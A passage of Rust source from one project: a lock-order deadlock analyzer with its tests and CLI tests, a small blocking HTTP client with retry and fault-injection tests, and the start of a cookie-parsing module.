                "W5D005",
                name.to_string(),
                format!("class {name:?} is declared {n} times in the manifest; ranks are ambiguous"),
            ));
        }
    }
    for class in run.classes() {
        if !declared.contains(class.as_str()) {
            findings.push(finding(
                "W5D005",
                class.clone(),
                format!(
                    "lock class {class:?} was observed at runtime but is not in the declared-order \
                     manifest; add it with a rank so its edges are checkable"
                ),
            ));
        }
    }

    // W5D004: observed edge against declared ranks.
    for e in &run.edges {
        let (Some(rh), Some(ra)) = (manifest.rank_of(&e.held), manifest.rank_of(&e.acquired))
        else {
            continue; // undeclared classes already flagged by W5D005
        };
        if rh >= ra && !manifest.allows(&e.held, &e.acquired) {
            let mut msg = format!(
                "acquired {acq:?} (rank {ra}) while holding {held:?} (rank {rh}) at {site}; \
                 declared order requires rank to strictly increase ({n} occurrence(s))",
                acq = e.acquired,
                held = e.held,
                site = e.site,
                n = e.count,
            );
            if !e.context.is_empty() {
                let _ = write!(msg, "; active operation mix: {}", e.context);
            }
            findings.push(finding("W5D004", format!("{} -> {}", e.held, e.acquired), msg));
        }
    }

    // W5D001: cycles among observed cross-class edges.
    for cycle in find_cycles(run) {
        let subject = cycle.path.first().cloned().unwrap_or_default();
        let mut msg = format!("acquisition cycle: {}", cycle.render);
        if !cycle.context.is_empty() {
            let _ = write!(msg, "; active operation mix: {}", cycle.context);
        }
        findings.push(finding("W5D001", subject, msg));
    }

    // W5D002: same-class events must be strictly ascending by index.
    for s in &run.same_class {
        if s.acquired_index <= s.held_index {
            let what = if s.acquired_index == s.held_index {
                "re-acquired the same instance (self-deadlock)".to_string()
            } else {
                format!(
                    "acquired instance {} while holding instance {} (descending: bypasses the \
                     ordered TwoShards-style path)",
                    s.acquired_index, s.held_index
                )
            };
            findings.push(finding(
                "W5D002",
                s.class.clone(),
                format!("{what} at {} ({} occurrence(s))", s.site, s.count),
            ));
        }
    }

    // W5D003: blocking with locks held, unless annotated or declared.
    for b in &run.blocking {
        let statically_allowed = b
            .held
            .iter()
            .all(|h| manifest.allows(h.split('#').next().unwrap_or(h), &b.site));
        if !b.allowed && !statically_allowed {
            findings.push(finding(
                "W5D003",
                b.site.clone(),
                format!(
                    "blocking call {site:?} at {loc} ran while holding [{held}] ({n} occurrence(s)); \
                     move the call after guard drop or annotate with allow_held({site:?})",
                    site = b.site,
                    loc = b.location,
                    held = b.held.join(", "),
                    n = b.count,
                ),
            ));
        }
    }

    // W5D006: annotation-required classes acquired under locks.
    for e in &run.edges {
        if !manifest.require_annotation.iter().any(|c| c == &e.acquired) {
            continue;
        }
        if !e.allowed && !manifest.allows(&e.held, &e.acquired) {
            findings.push(finding(
                "W5D006",
                format!("{} -> {}", e.held, e.acquired),
                format!(
                    "{acq:?} acquired at {site} while holding {held:?} without an allow_held \
                     annotation ({n} occurrence(s)); move the ledger call after guard drop or \
                     declare the hold intentional",
                    acq = e.acquired,
                    site = e.site,
                    held = e.held,
                    n = e.count,
                ),
            ));
        }
    }

    findings.sort_by(|a, b| b.severity.cmp(&a.severity).then(a.code.cmp(b.code)));
    DeadlockReport {
        classes_declared: manifest.classes.len(),
        edges_observed: run.edges.len(),
        findings,
        notes: run.notes.clone(),
    }
}

/// Validate the manifest alone (no observed facts): the static gate the
/// CI `w5deadlock --deny error` invocation runs with no run files.
pub fn analyze_manifest(manifest: &Manifest) -> DeadlockReport {
    analyze(manifest, &ObservedRun::empty())
}

struct Cycle {
    path: Vec<String>,
    render: String,
    context: String,
}

/// Find elementary cycles among the observed cross-class edges. Each
/// cycle is reported once, canonicalized to start at its smallest class.
fn find_cycles(run: &ObservedRun) -> Vec<Cycle> {
    // adjacency: class -> (next class -> site of first such edge)
    let mut adj: BTreeMap<&str, BTreeMap<&str, (&str, &str)>> = BTreeMap::new();
    for e in &run.edges {
        adj.entry(&e.held).or_default().entry(&e.acquired).or_insert((&e.site, &e.context));
    }
    let nodes: Vec<&str> = adj.keys().copied().collect();
    let mut seen_cycles: BTreeSet<Vec<String>> = BTreeSet::new();
    let mut out = Vec::new();

    // DFS from each node; a back edge to a node on the current stack
    // closes a cycle. Graphs here are tiny (bounded by the class catalog).
    for &start in &nodes {
        let mut stack: Vec<&str> = vec![start];
        let mut iters: Vec<Vec<&str>> =
            vec![adj.get(start).map(|m| m.keys().copied().collect()).unwrap_or_default()];
        while let Some(succs) = iters.last_mut() {
            if let Some(next) = succs.pop() {
                if let Some(pos) = stack.iter().position(|&n| n == next) {
                    let cycle_nodes: Vec<&str> = stack[pos..].to_vec();
                    // canonicalize: rotate so the smallest class leads
                    let min_ix = cycle_nodes
                        .iter()
                        .enumerate()
                        .min_by_key(|(_, n)| **n)
                        .map(|(i, _)| i)
                        .unwrap_or(0);
                    let mut canon: Vec<String> =
                        cycle_nodes.iter().map(|n| n.to_string()).collect();
                    canon.rotate_left(min_ix);
                    if seen_cycles.insert(canon.clone()) {
                        let mut render = String::new();
                        let mut context = String::new();
                        for i in 0..canon.len() {
                            let from = &canon[i];
                            let to = &canon[(i + 1) % canon.len()];
                            let (site, ctx) = adj
                                .get(from.as_str())
                                .and_then(|m| m.get(to.as_str()))
                                .copied()
                                .unwrap_or(("?", ""));
                            let _ = write!(render, "{from} -> {to} (at {site})");
                            if i + 1 < canon.len() {
                                render.push_str(", ");
                            }
                            if context.is_empty() && !ctx.is_empty() {
                                context = ctx.to_string();
                            }
                        }
                        let _ = write!(render, " -> back to {}", canon[0]);
                        out.push(Cycle { path: canon, render, context });
                    }
                } else if !stack.contains(&next) {
                    stack.push(next);
                    iters.push(
                        adj.get(next).map(|m| m.keys().copied().collect()).unwrap_or_default(),
                    );
                }
            } else {
                iters.pop();
                stack.pop();
            }
        }
    }
    out
}

/// Render the declared order and observed edges as a DOT graph: declared
/// classes as rank-sorted nodes, observed edges as solid arrows (red when
/// they inverted the declared order), undeclared classes dashed.
pub fn to_dot(manifest: &Manifest, run: &ObservedRun) -> String {
    let mut s = String::new();
    let _ = writeln!(s, "digraph w5locks {{");
    let _ = writeln!(s, "  rankdir=TB;");
    let _ = writeln!(s, "  node [shape=box, fontname=\"monospace\"];");
    let mut classes = manifest.classes.clone();
    classes.sort_by_key(|c| c.rank);
    for c in &classes {
        let _ = writeln!(s, "  \"{}\" [label=\"{}\\nrank {}\"];", c.name, c.name, c.rank);
    }
    for class in run.classes() {
        if manifest.rank_of(&class).is_none() {
            let _ = writeln!(s, "  \"{class}\" [style=dashed, color=orange];");
        }
    }
    for e in &run.edges {
        let inverted = match (manifest.rank_of(&e.held), manifest.rank_of(&e.acquired)) {
            (Some(rh), Some(ra)) => rh >= ra,
            _ => false,
        };
        let attrs = if inverted {
            " [color=red, penwidth=2]".to_string()
        } else if e.allowed {
            " [color=gray, label=\"allowed\"]".to_string()
        } else {
            String::new()
        };
        let _ = writeln!(s, "  \"{}\" -> \"{}\"{};", e.held, e.acquired, attrs);
    }
    let _ = writeln!(s, "}}");
    s
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use w5_sync::lockdep::{self, Recorder};
    use w5_sync::Mutex;

    /// The deliberately inverted two-class fixture: two threads nest the
    /// same two classes in opposite orders. The recorded run must yield
    /// W5D001 with a readable cycle path.
    fn inverted_fixture_run() -> ObservedRun {
        let rec = Arc::new(Recorder::new());
        let a = Arc::new(Mutex::new("fixture.alpha", ()));
        let b = Arc::new(Mutex::new("fixture.beta", ()));
        // Sequential nesting in both directions records the same edges a
        // racing pair would, without ever scheduling the actual deadlock.
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            {
                let _ga = a.lock();
                let _gb = b.lock();
            }
            {
                let _gb = b.lock();
                let _ga = a.lock();
            }
        }
        rec.snapshot()
    }

    #[test]
    fn workspace_manifest_is_clean() {
        let report = analyze_manifest(&Manifest::workspace());
        assert!(report.is_clean(), "unexpected findings: {:#?}", report.findings);
        assert!(report.passes(Severity::Info));
    }

    #[test]
    fn workspace_manifest_round_trips_through_json() {
        let m = Manifest::workspace();
        let back = Manifest::from_json(&m.to_json()).unwrap();
        assert_eq!(m, back);
    }

    #[test]
    fn inverted_fixture_yields_a_cycle_with_a_readable_path() {
        let run = inverted_fixture_run();
        let report = analyze(&Manifest::workspace(), &run);
        let cycles = report.with_code("W5D001");
        assert_eq!(cycles.len(), 1, "findings: {:#?}", report.findings);
        let msg = &cycles[0].message;
        assert!(msg.contains("fixture.alpha -> fixture.beta"), "cycle path unreadable: {msg}");
        assert!(msg.contains("fixture.beta -> fixture.alpha"), "cycle path unreadable: {msg}");
        assert!(msg.contains(".rs:"), "cycle hops should carry sites: {msg}");
        // the fixture classes are (intentionally) not in the manifest
        assert_eq!(report.with_code("W5D005").len(), 2);
        assert!(!report.passes(Severity::Error));
    }

    #[test]
    fn rank_inversion_is_a_static_fact() {
        // store.partition locked while obs... inverted: ledger (90) held
        // while taking the store partition lock (50).
        let mut run = ObservedRun::empty();
        run.edges.push(w5_sync::lockdep::ObservedEdge {
            held: "obs.ledger".into(),
            held_index: 0,
            acquired: "store.partition".into(),
            acquired_index: 0,
            site: "exec.rs:1".into(),
            allowed: false,
            count: 3,
            context: "sends=10 spawns=2".into(),
        });
        let report = analyze(&Manifest::workspace(), &run);
        let inv = report.with_code("W5D004");
        assert_eq!(inv.len(), 1);
        assert!(inv[0].message.contains("rank 90"), "message: {}", inv[0].message);
        assert!(
            inv[0].message.contains("sends=10 spawns=2"),
            "operation mix must be named: {}",
            inv[0].message
        );
    }

    #[test]
    fn descending_same_class_is_w5d002_and_ascending_is_clean() {
        let rec = Arc::new(Recorder::new());
        let lo = Mutex::with_index("kernel.shard", 2, ());
        let hi = Mutex::with_index("kernel.shard", 5, ());
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            let _a = lo.lock();
            let _b = hi.lock(); // ascending: fine
        }
        let clean = analyze(&Manifest::workspace(), &rec.snapshot());
        assert!(clean.with_code("W5D002").is_empty(), "{:#?}", clean.findings);

        rec.reset();
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            let _b = hi.lock();
            let _a = lo.lock(); // descending: TwoShards bypass
        }
        let report = analyze(&Manifest::workspace(), &rec.snapshot());
        let hits = report.with_code("W5D002");
        assert_eq!(hits.len(), 1, "{:#?}", report.findings);
        assert!(hits[0].message.contains("instance 2 while holding instance 5"));
    }

    #[test]
    fn unannotated_ledger_under_lock_warns_and_annotation_silences() {
        let rec = Arc::new(Recorder::new());
        let shard = Mutex::with_index("kernel.shard", 0, ());
        let ledger = Mutex::with_index("obs.ledger", 0, ());
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            let _g = shard.lock();
            let _l = ledger.lock();
        }
        let report = analyze(&Manifest::workspace(), &rec.snapshot());
        assert_eq!(report.with_code("W5D006").len(), 1, "{:#?}", report.findings);

        rec.reset();
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            let _g = shard.lock();
            let _permit = lockdep::allow_held("obs.ledger");
            let _l = ledger.lock();
        }
        let report = analyze(&Manifest::workspace(), &rec.snapshot());
        assert!(report.with_code("W5D006").is_empty(), "{:#?}", report.findings);
    }

    #[test]
    fn blocking_under_lock_is_w5d003() {
        let rec = Arc::new(Recorder::new());
        let shard = Mutex::with_index("kernel.shard", 3, ());
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            let _g = shard.lock();
            lockdep::blocking("net.socket.write");
        }
        let report = analyze(&Manifest::workspace(), &rec.snapshot());
        let hits = report.with_code("W5D003");
        assert_eq!(hits.len(), 1, "{:#?}", report.findings);
        assert!(hits[0].message.contains("kernel.shard#3"), "{}", hits[0].message);
    }

    #[test]
    fn report_renders_serializes_and_records() {
        let run = inverted_fixture_run();
        let report = analyze(&Manifest::workspace(), &run);
        let human = report.render_human();
        assert!(human.contains("W5D001[error]"), "{human}");
        let json = report.to_json();
        assert!(json.contains("\"W5D001\""), "{json}");

        let ledger = Arc::new(w5_obs::Ledger::new());
        {
            let _scope = w5_obs::scoped(Arc::clone(&ledger));
            report.record_to_ledger();
        }
        let view = ledger.view(&w5_obs::ObsLabel::empty());
        assert!(view.events.iter().any(|e| matches!(
            &e.kind,
            w5_obs::EventKind::AuditFinding { code, .. } if code == "W5D001"
        )));
    }

    #[test]
    fn dot_output_marks_inversions() {
        let mut run = inverted_fixture_run();
        run.edges.push(w5_sync::lockdep::ObservedEdge {
            held: "obs.ledger".into(),
            held_index: 0,
            acquired: "kernel.shard".into(),
            acquired_index: 0,
            site: "x.rs:1".into(),
            allowed: false,
            count: 1,
            context: String::new(),
        });
        let dot = to_dot(&Manifest::workspace(), &run);
        assert!(dot.contains("digraph w5locks"));
        assert!(dot.contains("\"obs.ledger\" -> \"kernel.shard\" [color=red"), "{dot}");
        assert!(dot.contains("\"fixture.alpha\" [style=dashed"), "{dot}");
    }

    #[test]
    fn merged_runs_gate_like_single_runs() {
        let mut merged = ObservedRun::empty();
        merged.merge(&inverted_fixture_run());
        let report = analyze(&Manifest::workspace(), &merged);
        assert!(!report.passes(Severity::Error));
    }
}
