//! End-to-end coverage for the `w5deadlock` CLI: the clean workspace
//! manifest certifies at `--deny error` with exit 0, an inverted
//! two-class fixture run produces a W5D001 cycle with a readable path
//! and exit 1, and the inspection flags (`--list`, `--emit-manifest`,
//! `--graph`, `--json`) stay machine-consumable.

use std::process::{Command, Output};
use std::sync::Arc;
use w5_sync::lockdep;

fn w5deadlock(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_w5deadlock"))
        .args(args)
        .output()
        .expect("w5deadlock binary runs")
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// An observed run whose two fixture classes are acquired in both orders
/// — the canonical deadlock-shaped input.
fn inverted_fixture_run() -> String {
    let rec = Arc::new(lockdep::Recorder::new());
    let _scope = lockdep::scoped(Arc::clone(&rec));
    let alpha = w5_sync::Mutex::new("fixture.alpha", ());
    let beta = w5_sync::Mutex::new("fixture.beta", ());
    {
        let _a = alpha.lock();
        let _b = beta.lock();
    }
    {
        let _b = beta.lock();
        let _a = alpha.lock();
    }
    serde_json::to_string(&rec.snapshot()).expect("run serializes")
}

fn write_temp(name: &str, contents: &str) -> std::path::PathBuf {
    let path = std::env::temp_dir().join(format!("w5deadlock-{}-{name}", std::process::id()));
    std::fs::write(&path, contents).expect("temp file writes");
    path
}

#[test]
fn clean_workspace_manifest_passes_deny_error() {
    let out = w5deadlock(&["--deny", "error"]);
    assert_eq!(out.status.code(), Some(0), "stdout:\n{}", stdout(&out));
    assert!(stdout(&out).contains("clean: no findings"), "stdout:\n{}", stdout(&out));
}

#[test]
fn clean_workspace_manifest_passes_deny_warning() {
    // Stronger than the CI gate: the declared order alone must not even
    // warn, or drift would hide behind the error-only default.
    let out = w5deadlock(&["--deny", "warning"]);
    assert_eq!(out.status.code(), Some(0), "stdout:\n{}", stdout(&out));
}

#[test]
fn inverted_fixture_yields_w5d001_with_cycle_path_and_exit_1() {
    let run = write_temp("inverted.json", &inverted_fixture_run());
    let out = w5deadlock(&["--deny", "error", run.to_str().unwrap()]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "stdout:\n{text}");
    assert!(text.contains("W5D001"), "missing W5D001:\n{text}");
    // The cycle path must be readable: both classes, their edge sites,
    // and the closing hop.
    assert!(text.contains("fixture.alpha"), "cycle path lacks alpha:\n{text}");
    assert!(text.contains("fixture.beta"), "cycle path lacks beta:\n{text}");
    assert!(text.contains("-> back to"), "cycle path not closed:\n{text}");
    assert!(text.contains("tests/cli.rs"), "cycle path lacks acquisition sites:\n{text}");
    let _ = std::fs::remove_file(run);
}

#[test]
fn json_report_is_parseable_and_carries_findings() {
    let run = write_temp("json.json", &inverted_fixture_run());
    let out = w5deadlock(&["--json", run.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).expect("report is JSON");
    let findings = v.get("findings").and_then(|f| f.as_arr()).expect("findings array");
    assert!(
        findings.iter().any(|f| f.get("code").and_then(|c| c.as_str()) == Some("W5D001")),
        "no W5D001 in JSON findings"
    );
    let _ = std::fs::remove_file(run);
}

#[test]
fn graph_emits_dot_with_observed_edges() {
    let run = write_temp("graph.json", &inverted_fixture_run());
    let out = w5deadlock(&["--graph", run.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "--graph is inspection, not a gate");
    let dot = stdout(&out);
    assert!(dot.starts_with("digraph"), "not DOT:\n{dot}");
    assert!(dot.contains("fixture.alpha"), "observed nodes missing:\n{dot}");
    let _ = std::fs::remove_file(run);
}

#[test]
fn list_prints_full_lint_catalog() {
    let out = w5deadlock(&["--list"]);
    assert_eq!(out.status.code(), Some(0));
    let text = stdout(&out);
    for code in ["W5D001", "W5D002", "W5D003", "W5D004", "W5D005", "W5D006"] {
        assert!(text.contains(code), "catalog missing {code}:\n{text}");
    }
}

#[test]
fn emitted_manifest_round_trips_through_the_checker() {
    let out = w5deadlock(&["--emit-manifest"]);
    assert_eq!(out.status.code(), Some(0));
    let manifest = write_temp("manifest.json", &stdout(&out));
    let out = w5deadlock(&["--manifest", manifest.to_str().unwrap(), "--deny", "warning"]);
    assert_eq!(out.status.code(), Some(0), "re-parsed manifest must still certify");
    let _ = std::fs::remove_file(manifest);
}

#[test]
fn unknown_flag_is_a_usage_error() {
    let out = w5deadlock(&["--bogus"]);
    assert_eq!(out.status.code(), Some(2));
}
