//! A small blocking HTTP client.
//!
//! Used by the experiment harnesses (driving the platform the way a
//! browser would) and by federation (provider-to-provider sync). Supports
//! one-shot requests and persistent keep-alive connections.

use crate::http::{buf_reader, HttpError, Limits, Method, Request, Response};
use bytes::Bytes;
use std::collections::BTreeMap;
use std::io::BufReader;
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

/// Client configuration + convenience methods.
#[derive(Clone, Debug)]
pub struct HttpClient {
    limits: Limits,
    timeout: Duration,
    /// Extra attempts after a transient failure (0 = fail fast).
    retries: u32,
    /// Base backoff between attempts; doubles per attempt, capped at 256×.
    backoff: Duration,
}

impl Default for HttpClient {
    fn default() -> Self {
        HttpClient::new()
    }
}

impl HttpClient {
    /// A client with default limits, a 10-second timeout and no retries.
    pub fn new() -> HttpClient {
        HttpClient {
            limits: Limits::default(),
            timeout: Duration::from_secs(10),
            retries: 0,
            backoff: Duration::from_millis(5),
        }
    }

    /// Override the IO timeout.
    pub fn with_timeout(mut self, timeout: Duration) -> HttpClient {
        self.timeout = timeout;
        self
    }

    /// Retry transient failures (connection drops, truncated responses) up
    /// to `retries` extra times, sleeping `backoff × 2^attempt` between
    /// attempts. Only [`HttpError::is_transient`] failures are retried —
    /// and only for requests safe to replay (the one-shot helpers build
    /// the request fresh each attempt).
    pub fn with_retries(mut self, retries: u32, backoff: Duration) -> HttpClient {
        self.retries = retries;
        self.backoff = backoff;
        self
    }

    /// Open a persistent connection.
    pub fn connect(&self, addr: SocketAddr) -> Result<Connection, HttpError> {
        let stream = TcpStream::connect(addr)?;
        stream.set_read_timeout(Some(self.timeout))?;
        stream.set_write_timeout(Some(self.timeout))?;
        stream.set_nodelay(true).ok();
        let write_half = stream.try_clone()?;
        Ok(Connection {
            reader: buf_reader(stream),
            writer: write_half,
            limits: self.limits,
        })
    }

    /// One-shot GET.
    pub fn get(&self, addr: SocketAddr, path: &str) -> Result<Response, HttpError> {
        self.request(addr, &build(Method::Get, path, None, Bytes::new(), &[]))
    }

    /// One-shot GET with extra headers (e.g. a session cookie).
    pub fn get_with_headers(
        &self,
        addr: SocketAddr,
        path: &str,
        headers: &[(&str, &str)],
    ) -> Result<Response, HttpError> {
        self.request(addr, &build(Method::Get, path, None, Bytes::new(), headers))
    }

    /// One-shot POST.
    pub fn post(
        &self,
        addr: SocketAddr,
        path: &str,
        content_type: &str,
        body: &[u8],
    ) -> Result<Response, HttpError> {
        self.request(
            addr,
            &build(
                Method::Post,
                path,
                Some(content_type),
                Bytes::copy_from_slice(body),
                &[],
            ),
        )
    }

    /// One-shot POST with extra headers.
    pub fn post_with_headers(
        &self,
        addr: SocketAddr,
        path: &str,
        content_type: &str,
        body: &[u8],
        headers: &[(&str, &str)],
    ) -> Result<Response, HttpError> {
        self.request(
            addr,
            &build(
                Method::Post,
                path,
                Some(content_type),
                Bytes::copy_from_slice(body),
                headers,
            ),
        )
    }

    /// Send an arbitrary request on a fresh connection, retrying transient
    /// failures per [`HttpClient::with_retries`].
    pub fn request(&self, addr: SocketAddr, request: &Request) -> Result<Response, HttpError> {
        let mut attempt: u32 = 0;
        loop {
            match self.try_request(addr, request) {
                Ok(resp) => return Ok(resp),
                Err(e) if e.is_transient() && attempt < self.retries => {
                    let delay = self.backoff.saturating_mul(1u32 << attempt.min(8));
                    if !delay.is_zero() {
                        std::thread::sleep(delay);
                    }
                    attempt += 1;
                }
                Err(e) => return Err(e),
            }
        }
    }

    /// One attempt: connect, send, read. Chaos sites model a connection
    /// dropped before the request leaves and a response body truncated by
    /// a mid-read drop.
    fn try_request(&self, addr: SocketAddr, request: &Request) -> Result<Response, HttpError> {
        if w5_chaos::inject(w5_chaos::Site::NetConnect).is_some() {
            return Err(HttpError::Io(std::io::Error::new(
                std::io::ErrorKind::ConnectionReset,
                "injected connection drop",
            )));
        }
        let mut conn = self.connect(addr)?;
        let resp = conn.request(request)?;
        if w5_chaos::inject(w5_chaos::Site::NetBody).is_some() {
            return Err(HttpError::UnexpectedEof);
        }
        Ok(resp)
    }
}

fn build(
    method: Method,
    path_and_query: &str,
    content_type: Option<&str>,
    body: Bytes,
    headers: &[(&str, &str)],
) -> Request {
    let (path, query_raw) = match path_and_query.split_once('?') {
        Some((p, q)) => (p.to_string(), q.to_string()),
        None => (path_and_query.to_string(), String::new()),
    };
    let mut hs = BTreeMap::new();
    if let Some(ct) = content_type {
        hs.insert("content-type".to_string(), ct.to_string());
    }
    for (k, v) in headers {
        hs.insert(k.to_ascii_lowercase(), v.to_string());
    }
    Request { method, path, query_raw, headers: hs, body }
}

/// A persistent keep-alive connection.
pub struct Connection {
    reader: BufReader<TcpStream>,
    writer: TcpStream,
    limits: Limits,
}

impl Connection {
    /// Send one request and read its response.
    pub fn request(&mut self, request: &Request) -> Result<Response, HttpError> {
        request.write_to(&mut self.writer)?;
        Response::read_from(&mut self.reader, &self.limits)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn build_splits_query() {
        let r = build(Method::Get, "/a/b?x=1&y=2", None, Bytes::new(), &[]);
        assert_eq!(r.path, "/a/b");
        assert_eq!(r.query_raw, "x=1&y=2");
    }

    #[test]
    fn build_sets_headers() {
        let r = build(
            Method::Post,
            "/p",
            Some("application/json"),
            Bytes::from_static(b"{}"),
            &[("Cookie", "sid=1")],
        );
        assert_eq!(r.header("content-type"), Some("application/json"));
        assert_eq!(r.header("cookie"), Some("sid=1"));
    }

    #[test]
    fn connect_refused_is_io_error() {
        // Port 1 on localhost is essentially never listening.
        let c = HttpClient::new().with_timeout(Duration::from_millis(200));
        let err = c.get("127.0.0.1:1".parse().unwrap(), "/").unwrap_err();
        assert!(matches!(err, HttpError::Io(_)));
    }

    #[test]
    fn injected_drop_is_retried_to_success() {
        use crate::server::{Server, ServerConfig};
        use crate::http::Response;
        use std::sync::Arc;

        let h = Server::start(
            "127.0.0.1:0",
            ServerConfig::default(),
            Arc::new(|_req: crate::http::Request, _| Response::text("pong".to_string())),
        )
        .unwrap();

        // Find a seed whose first connect-roll fires and second does not:
        // attempt 1 drops, the retry succeeds.
        let seed = (0..1000)
            .find(|&s| {
                let inj = w5_chaos::Injector::new(
                    w5_chaos::FaultPlan::new(s).with(w5_chaos::Site::NetConnect, 0.5),
                );
                inj.roll(w5_chaos::Site::NetConnect).is_some()
                    && inj.roll(w5_chaos::Site::NetConnect).is_none()
            })
            .expect("some seed fails then succeeds");
        let inj = w5_chaos::Injector::new(
            w5_chaos::FaultPlan::new(seed).with(w5_chaos::Site::NetConnect, 0.5),
        );
        let _guard = w5_chaos::with_injector(Arc::clone(&inj));
        let c = HttpClient::new().with_retries(2, Duration::from_millis(0));
        let resp = c.get(h.addr(), "/ping").unwrap();
        assert_eq!(resp.body_string(), "pong");
        let report = inj.report();
        assert_eq!(report.injected[&w5_chaos::Site::NetConnect], 1, "one drop, one retry");
        drop(_guard);
        h.shutdown();
    }

    #[test]
    fn truncated_body_without_retries_fails_fast() {
        use crate::server::{Server, ServerConfig};
        use crate::http::Response;
        use std::sync::Arc;

        let h = Server::start(
            "127.0.0.1:0",
            ServerConfig::default(),
            Arc::new(|_req: crate::http::Request, _| Response::text("pong".to_string())),
        )
        .unwrap();
        let inj = w5_chaos::Injector::new(
            w5_chaos::FaultPlan::new(1).with(w5_chaos::Site::NetBody, 1.0),
        );
        let _guard = w5_chaos::with_injector(Arc::clone(&inj));
        let c = HttpClient::new();
        let err = c.get(h.addr(), "/ping").unwrap_err();
        assert!(matches!(err, HttpError::UnexpectedEof), "{err:?}");
        assert!(err.is_transient());
        drop(_guard);
        h.shutdown();
    }
}
