//! A small blocking HTTP client.
//!
//! Used by the experiment harnesses (driving the platform the way a
//! browser would) and by federation (provider-to-provider sync). Supports
//! one-shot requests and persistent keep-alive connections.

use crate::http::{buf_reader, HttpError, Limits, Method, Request, Response};
use bytes::Bytes;
use std::collections::BTreeMap;
use std::io::BufReader;
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

/// Client configuration + convenience methods.
#[derive(Clone, Debug)]
pub struct HttpClient {
    limits: Limits,
    timeout: Duration,
}

impl Default for HttpClient {
    fn default() -> Self {
        HttpClient::new()
    }
}

impl HttpClient {
    /// A client with default limits and a 10-second timeout.
    pub fn new() -> HttpClient {
        HttpClient { limits: Limits::default(), timeout: Duration::from_secs(10) }
    }

    /// Override the IO timeout.
    pub fn with_timeout(mut self, timeout: Duration) -> HttpClient {
        self.timeout = timeout;
        self
    }

    /// Open a persistent connection.
    pub fn connect(&self, addr: SocketAddr) -> Result<Connection, HttpError> {
        let stream = TcpStream::connect(addr)?;
        stream.set_read_timeout(Some(self.timeout))?;
        stream.set_write_timeout(Some(self.timeout))?;
        stream.set_nodelay(true).ok();
        let write_half = stream.try_clone()?;
        Ok(Connection {
            reader: buf_reader(stream),
            writer: write_half,
            limits: self.limits,
        })
    }

    /// One-shot GET.
    pub fn get(&self, addr: SocketAddr, path: &str) -> Result<Response, HttpError> {
        self.request(addr, &build(Method::Get, path, None, Bytes::new(), &[]))
    }

    /// One-shot GET with extra headers (e.g. a session cookie).
    pub fn get_with_headers(
        &self,
        addr: SocketAddr,
        path: &str,
        headers: &[(&str, &str)],
    ) -> Result<Response, HttpError> {
        self.request(addr, &build(Method::Get, path, None, Bytes::new(), headers))
    }

    /// One-shot POST.
    pub fn post(
        &self,
        addr: SocketAddr,
        path: &str,
        content_type: &str,
        body: &[u8],
    ) -> Result<Response, HttpError> {
        self.request(
            addr,
            &build(
                Method::Post,
                path,
                Some(content_type),
                Bytes::copy_from_slice(body),
                &[],
            ),
        )
    }

    /// One-shot POST with extra headers.
    pub fn post_with_headers(
        &self,
        addr: SocketAddr,
        path: &str,
        content_type: &str,
        body: &[u8],
        headers: &[(&str, &str)],
    ) -> Result<Response, HttpError> {
        self.request(
            addr,
            &build(
                Method::Post,
                path,
                Some(content_type),
                Bytes::copy_from_slice(body),
                headers,
            ),
        )
    }

    /// Send an arbitrary request on a fresh connection.
    pub fn request(&self, addr: SocketAddr, request: &Request) -> Result<Response, HttpError> {
        let mut conn = self.connect(addr)?;
        conn.request(request)
    }
}

fn build(
    method: Method,
    path_and_query: &str,
    content_type: Option<&str>,
    body: Bytes,
    headers: &[(&str, &str)],
) -> Request {
    let (path, query_raw) = match path_and_query.split_once('?') {
        Some((p, q)) => (p.to_string(), q.to_string()),
        None => (path_and_query.to_string(), String::new()),
    };
    let mut hs = BTreeMap::new();
    if let Some(ct) = content_type {
        hs.insert("content-type".to_string(), ct.to_string());
    }
    for (k, v) in headers {
        hs.insert(k.to_ascii_lowercase(), v.to_string());
    }
    Request { method, path, query_raw, headers: hs, body }
}

/// A persistent keep-alive connection.
pub struct Connection {
    reader: BufReader<TcpStream>,
    writer: TcpStream,
    limits: Limits,
}

impl Connection {
    /// Send one request and read its response.
    pub fn request(&mut self, request: &Request) -> Result<Response, HttpError> {
        request.write_to(&mut self.writer)?;
        Response::read_from(&mut self.reader, &self.limits)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn build_splits_query() {
        let r = build(Method::Get, "/a/b?x=1&y=2", None, Bytes::new(), &[]);
        assert_eq!(r.path, "/a/b");
        assert_eq!(r.query_raw, "x=1&y=2");
    }

    #[test]
    fn build_sets_headers() {
        let r = build(
            Method::Post,
            "/p",
            Some("application/json"),
            Bytes::from_static(b"{}"),
            &[("Cookie", "sid=1")],
        );
        assert_eq!(r.header("content-type"), Some("application/json"));
        assert_eq!(r.header("cookie"), Some("sid=1"));
    }

    #[test]
    fn connect_refused_is_io_error() {
        // Port 1 on localhost is essentially never listening.
        let c = HttpClient::new().with_timeout(Duration::from_millis(200));
        let err = c.get("127.0.0.1:1".parse().unwrap(), "/").unwrap_err();
        assert!(matches!(err, HttpError::Io(_)));
    }
}
