//! Cookie parsing and generation.
//!
//! The platform authenticates users from cookies (paper §2: "the provider
//! would read incoming cookies or HTTP data fields to authenticate the
//! user"), so this module is part of the trusted base and is kept minimal:
//! name/value pairs on the way in, `Set-Cookie` with the security
//! attributes the platform needs on the way out.

use std::fmt;

/// A cookie received from a client.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Cookie {
    /// Cookie name.
    pub name: String,
    /// Cookie value.
    pub value: String,
}

/// Parse a `Cookie:` header into pairs. Malformed fragments are skipped —
/// lenient in, strict out.
pub fn parse_cookie_header(raw: &str) -> Vec<Cookie> {
